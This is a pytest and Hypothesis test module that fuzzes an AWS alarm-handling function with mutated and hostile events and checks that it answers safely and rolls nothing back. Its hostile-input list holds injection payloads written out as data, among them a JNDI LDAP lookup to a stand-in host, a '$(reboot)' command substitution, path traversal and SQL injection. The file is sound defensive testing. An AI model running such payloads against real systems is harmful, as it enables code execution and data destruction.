"""Events as nobody ever sent them, through the deployed alarm function: always answered, never acted on."""

import copy
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from lab import Lab
from tests.system.answers import acts, all_schema_problems, posted, schema_problems
from tests.system.famous import SECURITY_GROUP

EVENTS = {
    path.name: json.loads(path.read_text(encoding="utf-8"))
    for path in sorted((Path(__file__).parents[2] / "events").glob("*.json"))
}
STEADY = settings(
    derandomize=True,
    database=None,
    deadline=None,
    max_examples=60,
    suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large],
)

HOSTILE_TEXTS = (
    "",
    " ",
    "<!channel> <@U123456> <https://evil.example|click me>",
    "*bold* _it_ ~no~ `code` ```block``` > quote",
    "order-api\r\nSubject: injected\r\n\r\nBcc: everybody",
    "\x00\x07\x1b[31mred\x1b[0m\u202ereversed\u2028line",
    "\ud800 half a character",
    "アラーム-名前-🔥" * 20,
    "${jndi:ldap://evil.example} {{7*7}} %s %n $(reboot) `reboot`",
    "../../etc/passwd",
    "'; DROP TABLE incidents; --",
    "#/?&=+%00%20",
    "arn:aws:cloudwatch:eu-west-1:123456789012:alarm:",
    "app/order-api/50dc6c495c0c9188",
    "-1e400",
    "9999-12-31T23:59:59.999999Z",
    "x" * 5_000,
)

MENTIONS = ("<!channel>", "<@U123456>", "<https://evil.example")

Path_ = tuple[str | int, ...]


@pytest.fixture(scope="module")
def lab() -> Iterator[Lab]:
    """An incident in which a rollback is wrong whatever an event says, and no setting forbids one."""
    with Lab.stage(SECURITY_GROUP, mode="auto") as staged:
        yield staged


def _values(value: Any, path: Path_ = ()) -> Iterator[tuple[Path_, Any]]:
    """Every value in an event with the way to it, itself first."""
    yield path, value
    if isinstance(value, dict):
        for key, item in value.items():
            yield from _values(item, (*path, key))
    if isinstance(value, list):
        for index, item in enumerate(value):
            yield from _values(item, (*path, index))


def _put(event: Any, path: Path_, value: Any) -> Any:
    if not path:
        return value
    inner = event
    for step in path[:-1]:
        inner = inner[step]
    inner[path[-1]] = value
    return event


def _drop(event: Any, path: Path_) -> Any:
    if not path:
        return {}
    inner = event
    for step in path[:-1]:
        inner = inner[step]
    del inner[path[-1]]
    return event


ANYTHING = st.recursive(
    st.one_of(
        st.none(),
        st.booleans(),
        st.integers(),
        st.floats(allow_nan=False, allow_infinity=False),
        st.text(max_size=20),
        st.sampled_from(HOSTILE_TEXTS),
    ),
    lambda inner: st.one_of(
        st.lists(inner, max_size=3), st.dictionaries(st.text(max_size=8), inner, max_size=3)
    ),
    max_leaves=5,
)


@st.composite
def mutated_events(draw: st.DrawFn) -> Any:
    """One of AWS's events with one to four things wrong with it."""
    event = copy.deepcopy(EVENTS[draw(st.sampled_from(sorted(EVENTS)))])
    for _ in range(draw(st.integers(1, 4))):
        event = _mutated(draw, event)
    return event


def _mutated(draw: st.DrawFn, event: Any) -> Any:
    everything = list(_values(event))
    path, value = draw(st.sampled_from(everything[1:] or everything))
    how = draw(st.sampled_from(["drop", "anything", "text", "wrap", "twice", "inside", "other"]))
    if how == "drop":
        return _drop(event, path)
    if how == "inside" and isinstance(value, str):
        return _put(event, path, _mutated_inside(draw, value))
    if how == "other":
        return _put(event, path, draw(st.sampled_from([found for _, found in _values(copy.deepcopy(event))])))
    changes = {
        "anything": ANYTHING,
        "text": st.sampled_from(HOSTILE_TEXTS),
        "wrap": st.sampled_from([[value], {"value": value}]),
        "twice": st.just(value * 2 if isinstance(value, str | list) else [value, value]),
    }
    return _put(event, path, copy.deepcopy(draw(changes.get(how, ANYTHING))))


def _mutated_inside(draw: st.DrawFn, text: str) -> str:
    """A text that holds JSON, as SNS and reasonData do, with something wrong in it; any other cut short."""
    try:
        content = json.loads(text)
    except ValueError:
        return text[: draw(st.integers(0, len(text)))]
    return json.dumps(_mutated(draw, content))


@STEADY
@given(event=mutated_events())
def test_a_mutated_event_is_answered_by_the_contract_and_rolls_nothing_back(lab: Lab, event: Any) -> None:
    _forget_events(lab)
    invocation = lab.runtime.invoke("AlarmFunction", event)
    assert not invocation.failed, invocation.error
    assert schema_problems(invocation.result) == []
    assert acts(lab) == []


def _forget_events(lab: Lab) -> None:
    """Most mutations leave an event the same event: it is to be handled anew every time."""
    table = lab.stack.references["Table"]
    for item in lab.items():
        if item["pk"]["S"] == "idempotency":
            lab.client("dynamodb").delete_item(TableName=table, Key={"pk": item["pk"], "sk": item["sk"]})


@STEADY
@given(event=ANYTHING)
def test_anything_at_all_is_answered_by_the_contract_and_ignored(lab: Lab, event: Any) -> None:
    invocation = lab.runtime.invoke("AlarmFunction", event)
    assert not invocation.failed, invocation.error
    assert schema_problems(invocation.result) == []
    assert invocation.result["outcome"] == "ignored"
    assert invocation.result["reason"]


@pytest.mark.parametrize("name", HOSTILE_TEXTS, ids=lambda text: ascii(text)[1:25])
def test_a_hostile_alarm_name_reaches_people_harmlessly(lab: Lab, name: str) -> None:
    slack, sns = len(lab.slack_messages), len(lab.sns_messages)
    event = lab.alarm_event()
    event["detail"]["alarmName"] = name
    event["resources"] = [f"arn:aws:cloudwatch:eu-west-1:123456789012:alarm:{name}"]
    invocation = lab.runtime.invoke("AlarmFunction", event)
    assert not invocation.failed, invocation.error
    assert schema_problems(invocation.result) == []
    lab.runtime.deliver_now()
    lab.run_until(0)
    new = lab.slack_messages[slack:]
    assert [message.answer for message in new if not message.accepted] == []
    if invocation.result["outcome"] == "diagnosed":
        assert len(new) == len(lab.sns_messages) - sns == 1
    for message in new:
        assert [mark for mark in MENTIONS if mark in message.words()] == []
    for published in lab.sns_messages[sns:]:
        assert published.subject.isprintable()
        assert published.subject.isascii()


def test_what_was_left_in_the_queues_by_all_of_this_harms_nobody(lab: Lab) -> None:
    """The same environment afterwards: it still answers, and what it handed on is worked off."""
    mutated = copy.deepcopy(EVENTS["eventbridge-metric.json"])
    mutated["detail"]["alarmName"] = HOSTILE_TEXTS[2]
    lab.runtime.invoke("AlarmFunction", mutated)
    lab.run_until(20)
    assert [each.error for each in lab.invocations if each.failed] == []
    assert acts(lab) == []
    assert all_schema_problems(lab) == []
    assert posted(lab)
